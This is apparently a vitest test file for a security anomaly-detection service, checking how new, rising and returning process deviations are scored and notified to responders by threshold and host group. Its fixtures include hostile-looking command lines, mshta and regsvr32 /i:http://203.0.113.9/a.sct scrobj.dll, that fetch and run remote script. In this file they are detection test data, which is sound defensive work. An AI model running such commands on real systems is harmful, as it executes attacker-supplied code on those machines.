import { beforeEach, expect, test } from 'vitest'
import { ingestExamples } from '@/lib/operations/ingest/example-use'
import { queueRebuild, recompute } from '@/lib/operations/recompute/recompute'
import { forgetTriage, itemOf, judge, withTriageExamples } from '@/lib/operations/triage-examples'
import { readClock, tellOfNewDeviations } from '@/lib/store/notifications/new-deviations'
import { listDeviating } from '@/lib/store/notifications/reader-queue'
import { pool } from '@/lib/store/pool'
import { listInbox } from '@/lib/store/screens/notifications'
import { chooseNotification } from './choices'
import { openChannels } from './run-notifier'

const examples = withTriageExamples()
const EVERYTHING = { inApp: true, email: true, webhook: true, minScoreMillibits: null }

beforeEach(async () => {
  await pool().query('DELETE FROM notification')
  await pool().query('DELETE FROM notification_choice')
})

type Hit = { id: string; score: number; settled: boolean; inGroup: boolean }

test('what deviates from a score on is what all hits say of it, in sight and where nothing is about to be computed', async () => {
  const { groupId } = examples()
  await recompute(pool())
  await pool().query(
    `UPDATE host_work SET dirty_from = '2026-01-06' WHERE host_id = (SELECT min(host_id) FROM deviation_hit)`,
  )
  const { rows: hits } = await pool().query<Hit>(
    `SELECT t.deviation_id AS id, t.score_millibits AS score, w.dirty_from IS NULL OR w.dirty_from > t.day AS settled,
       t.host_id IN (SELECT host_id FROM host_group_member WHERE group_id = $1) AS "inGroup"
     FROM deviation_hit t LEFT JOIN host_work w ON w.host_id = t.host_id`,
    [groupId],
  )
  const scores = [...new Set(hits.map(({ score }) => score))]
  expect(scores.length).toBeGreaterThan(1)
  for (const least of scores.flatMap((score) => [score, score + 1]))
    for (const scope of [{ kind: 'all' }, { kind: 'groups', groupIds: [groupId] }] as const) {
      const counted = hits.filter(({ score, inGroup }) => score >= least && (scope.kind === 'all' || inGroup))
      const expected = [...new Set(counted.map(({ id }) => id))].map((id) => {
        const own = counted.filter((hit) => hit.id === id)
        return {
          id,
          scoreMillibits: Math.max(...own.map(({ score }) => score)),
          settled: own.some(({ settled }) => settled),
        }
      })
      const found = await listDeviating(pool(), scope, least)
      expect(
        new Set(found.map(({ id, scoreMillibits, settled }) => ({ id, scoreMillibits, settled }))),
      ).toEqual(new Set(expected))
    }
  await recompute(pool())
})

test('new deviations are told to who chose so, from the score they chose, in their scope, and many at once together', async () => {
  const { responder, groupResponder } = examples()
  const settle = async () => {
    await recompute(pool())
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
  }
  await settle()
  await chooseNotification(responder, {
    event: 'deviation-found',
    ...EVERYTHING,
    email: false,
    minScoreMillibits: 4000,
  })
  await chooseNotification(groupResponder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 90_000,
  })
  const use = (host: string, commandLine: string) => ({
    host,
    at: '2026-01-08T12:00:00Z',
    image: 'C:\\Windows\\System32\\mshta.exe',
    commandLine,
  })
  await ingestExamples(pool(), [use('ws-3.example', 'mshta http://203.0.113.9/a.hta')])
  await settle()
  await settle()
  const told = await listInbox(responder.accountId)
  expect(told).toHaveLength(1)
  expect(told[0]?.title).toMatch(/^New deviation, \d+\.\d bits: Mshta\.exe$/)
  expect(await listInbox(groupResponder.accountId)).toEqual([])

  const words = 'amber birch cedar dune ember fern grove heath inlet jetty knoll ledge'.split(' ')
  await ingestExamples(
    pool(),
    words.map((word) => use('ws-2.example', `mshta C:\\Users\\Public\\${word}.hta`)),
  )
  await settle()
  const [together, ...before] = await listInbox(responder.accountId)
  expect(before).toHaveLength(1)
  expect(together?.title).toMatch(/^12 new deviations, the highest \d+\.\d bits: Mshta\.exe$/)
})

test('a deviation that rises, and one that comes back, is told once each in these words', async () => {
  const { responder } = examples()
  const told = async () => {
    await pool().query('DELETE FROM notification')
    // nothing else is of this test
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
    return (await listInbox(responder.accountId)).map(({ title }) => title)
  }
  const { id } = await itemOf('driver')
  const scores = (millibits: number) =>
    pool().query('UPDATE deviation_hit SET score_millibits = $2 WHERE deviation_id = $1', [id, millibits])
  await recompute(pool())
  await chooseNotification(responder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 100_000,
  })
  expect(await told()).toEqual([])
  await scores(123_400)
  expect(await told()).toEqual(['A deviation rose to 123.4 bits: Regsvr32.exe'])
  expect(await told()).toEqual([])
  await scores(5000)
  expect(await told()).toEqual([])
  await scores(110_000)
  expect(await told()).toEqual(['A deviation is back, 110.0 bits: Regsvr32.exe'])
  expect(await told()).toEqual([])
})

test('what shows because its host joined the groups that somebody sees is told as new to them, once', async () => {
  const { groupResponder, groupId } = examples()
  const limit = 'INSERT INTO account_host_group (account_id, group_id) VALUES ($1, $2)'
  await pool().query(limit, [groupResponder.accountId, groupId])
  const told = async () => {
    await pool().query('DELETE FROM notification')
    await recompute(pool())
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
    return (await listInbox(groupResponder.accountId)).map(({ title }) => title)
  }
  await ingestExamples(pool(), [
    {
      host: 'ws-9.example',
      at: '2026-01-08T12:00:00Z',
      image: 'C:\\Windows\\System32\\mshta.exe',
      commandLine: 'mshta http://203.0.113.9/elsewhere.hta',
    },
  ])
  expect(await told()).toEqual([])
  await chooseNotification(groupResponder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 4000,
  })
  expect(await told()).toEqual([])
  await pool().query(
    `INSERT INTO host_group_member (host_id, group_id, valid_from) SELECT id, $1, '2026-01-01' FROM host WHERE name = 'ws-9.example'`,
    [groupId],
  )
  const titles = await told()
  expect(titles.length).toBeGreaterThan(0)
  for (const title of titles)
    expect(title).toMatch(/^A deviation on a host that is new to you, \d+\.\d bits: Mshta\.exe$/)
  expect(await told()).toEqual([])
  await pool().query('DELETE FROM account_host_group')
})

test('what was explained and deviates all the same is told, and what was so when somebody chose to be told is not', async () => {
  const { responder } = examples()
  const settle = async () => {
    await recompute(pool())
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
    return (await listInbox(responder.accountId)).map(({ title }) => title)
  }
  await forgetTriage()
  await chooseNotification(responder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 4000,
  })
  expect(await settle()).toEqual([])
  await judge(responder, 'scrobj', { to: 'expected', until: '2026-01-08' })
  expect(await settle()).toEqual([])
  await ingestExamples(pool(), [
    {
      host: 'ws-3.example',
      at: '2026-01-09T10:00:00Z',
      image: 'C:\\Windows\\System32\\regsvr32.exe',
      commandLine: 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll',
    },
  ])
  const found = await settle()
  expect(found).toHaveLength(1)
  expect(found[0]).toMatch(/^What was explained deviates again, \d+\.\d bits: Regsvr32\.exe$/)
  expect(await settle()).toHaveLength(1)
})

test('a rebuild that is told of on its way tells nothing that was seen before, to nobody', async () => {
  const { responder, groupResponder } = examples()
  const choice = { event: 'deviation-found', ...EVERYTHING, minScoreMillibits: 4000 } as const
  const tell = async () => await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
  await recompute(pool())
  await chooseNotification(responder, choice)
  await tell()
  await pool().query('DELETE FROM notification')
  await queueRebuild(pool())
  // somebody who is looked at for the first time meanwhile
  await chooseNotification(groupResponder, choice)
  for (let days = 1; ; days++) {
    let steps = 0
    await recompute(pool(), { isStopped: () => ++steps > days })
    await tell()
    const { rows } = await pool().query('SELECT 1 FROM host_work WHERE dirty_from IS NOT NULL LIMIT 1')
    if (rows.length === 0) break
  }
  expect(await listInbox(responder.accountId)).toEqual([])
  expect(await listInbox(groupResponder.accountId)).toEqual([])
})
